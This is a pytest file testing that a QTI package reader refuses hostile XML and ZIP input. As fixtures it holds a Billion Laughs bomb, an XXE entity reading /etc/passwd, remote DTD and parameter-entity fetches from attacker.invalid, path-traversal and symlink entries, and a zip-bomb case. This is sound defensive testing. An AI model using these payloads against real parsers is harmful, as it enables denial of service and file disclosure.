"""Untrusted XML and ZIP input: entity attacks, zip bombs, unsafe paths, limits."""

import io
import stat
import zipfile

import pytest

from qti import (
    PackageLimits,
    QtiError,
    parse_xml,
    read_item,
    read_item_file,
    read_package,
)
from qti.zipsafe import is_safe_path

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<assessmentItem xmlns="http://www.imsglobal.org/xsd/imsqti_v2p1">&lol9;</assessmentItem>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE assessmentItem [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<assessmentItem xmlns="http://www.imsglobal.org/xsd/imsqti_v2p1" identifier="x" title="x">
<itemBody><p>&xxe;</p></itemBody></assessmentItem>"""

REMOTE_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE assessmentItem SYSTEM "http://attacker.invalid/evil.dtd">
<assessmentItem xmlns="http://www.imsglobal.org/xsd/imsqti_v2p1"><p>&evil;</p></assessmentItem>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<x/>"""

MANIFEST = b"""<?xml version="1.0"?>
<manifest xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" identifier="M">
<organizations/><resources/></manifest>"""


def test_billion_laughs_is_refused_quickly():
    with pytest.raises(QtiError, match="XML"):
        parse_xml(BILLION_LAUGHS)


def test_external_entity_is_never_read():
    with pytest.raises(QtiError) as caught:
        read_item(XXE)
    assert "root:" not in caught.value.message


def test_remote_dtd_and_undefined_entities_are_refused():
    with pytest.raises(QtiError):
        parse_xml(REMOTE_DTD)


def test_parameter_entities_are_not_fetched():
    with pytest.raises(QtiError):
        parse_xml(PARAMETER_ENTITY)


@pytest.mark.parametrize("data", [b"", b"<a>", b"<a></b>", b"\xff\xfe<a/>", b"not xml"])
def test_malformed_xml_raises_a_vietnamese_error(data):
    with pytest.raises(QtiError, match="XML"):
        parse_xml(data)


def test_parse_xml_accepts_streams():
    assert parse_xml(io.BytesIO(b"<a><b/></a>")).tag == "a"


def test_parse_xml_refuses_text():
    with pytest.raises(QtiError):
        parse_xml(io.StringIO("<a/>"))


def test_deep_nesting_is_refused():
    deep = b"<a>" * 5000 + b"</a>" * 5000
    with pytest.raises(QtiError):
        parse_xml(deep)


def _zip(entries, manifest=True) -> io.BytesIO:
    """Build a ZIP from (name or ZipInfo, bytes) pairs."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if manifest:
            archive.writestr("imsmanifest.xml", MANIFEST)
        for name, data in entries:
            archive.writestr(name, data)
    buffer.seek(0)
    return buffer


def test_empty_valid_package_reads_nothing():
    result = read_package(_zip([]))
    assert result.items == [] and result.problems == []


@pytest.mark.parametrize(
    "name",
    [
        "../evil.xml",
        "a/../../evil.xml",
        "/etc/passwd",
        "C:/evil.xml",
        "..\\evil.xml",
        "a\\b.xml",
    ],
)
def test_unsafe_entry_names_refuse_the_package(name):
    with pytest.raises(QtiError, match="không an toàn"):
        read_package(_zip([(name, b"x")]))


def test_symlink_entries_refuse_the_package():
    link = zipfile.ZipInfo("items/link.xml")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    with pytest.raises(QtiError, match="symlink"):
        read_package(_zip([(link, b"/etc/passwd")]))


def test_zip_bomb_ratio_is_refused():
    with pytest.raises(QtiError, match="bom ZIP"):
        read_package(_zip([("media/zeros.bin", bytes(4 * 1024 * 1024))]))


def test_total_uncompressed_size_is_limited():
    limits = PackageLimits(max_total_bytes=10_000)
    with pytest.raises(QtiError, match="Dung lượng"):
        read_package(_zip([("a.txt", b"a" * 6_000), ("b.txt", b"b" * 6_000)]), limits)


def test_too_many_entries_are_refused():
    limits = PackageLimits(max_entries=5)
    with pytest.raises(QtiError, match="vượt giới hạn"):
        read_package(_zip([(f"f{n}.txt", b"x") for n in range(5)]), limits)


def test_duplicate_entry_names_are_refused():
    with pytest.warns(UserWarning, match="Duplicate name"):
        package = _zip([("a.xml", b"1"), ("a.xml", b"2")])
    with pytest.raises(QtiError, match="trùng tên"):
        read_package(package)


def test_missing_manifest_is_refused():
    with pytest.raises(QtiError, match="imsmanifest.xml"):
        read_package(_zip([("items/q.xml", b"<x/>")], manifest=False))


def test_manifest_with_entities_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("imsmanifest.xml", BILLION_LAUGHS)
    with pytest.raises(QtiError):
        read_package(buffer)


def test_not_a_zip_is_refused():
    with pytest.raises(QtiError, match="ZIP"):
        read_package(io.BytesIO(b"PK\x03\x04 not really a zip"))


def test_corrupted_entry_is_refused_as_a_whole():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("imsmanifest.xml", MANIFEST)
    data = bytearray(buffer.getvalue())
    offset = data.index(b"<manifest")
    data[offset + 1] ^= 0xFF
    with pytest.raises(QtiError, match="Không đọc được"):
        read_package(io.BytesIO(bytes(data)))


def test_bare_item_file_size_is_limited():
    with pytest.raises(QtiError, match="giới hạn"):
        read_item_file(
            io.BytesIO(b"<a/>" * 100), limits=PackageLimits(max_total_bytes=50)
        )


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("items/a.xml", True),
        ("a..b.xml", True),
        ("", False),
        ("a/\x00b", False),
        ("..", False),
    ],
)
def test_is_safe_path(name, safe):
    assert is_safe_path(name) is safe


def test_a_malformed_item_is_a_problem_not_a_refused_package():
    manifest = MANIFEST.replace(
        b"<resources/>",
        b'<resources><resource identifier="R" type="imsqti_item_xmlv2p1" href="q.xml">'
        b'<file href="q.xml"/></resource></resources>',
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("imsmanifest.xml", manifest)
        archive.writestr("q.xml", XXE)
    result = read_package(buffer)
    assert result.items == [] and [p for p, _ in result.problems] == ["q.xml"]
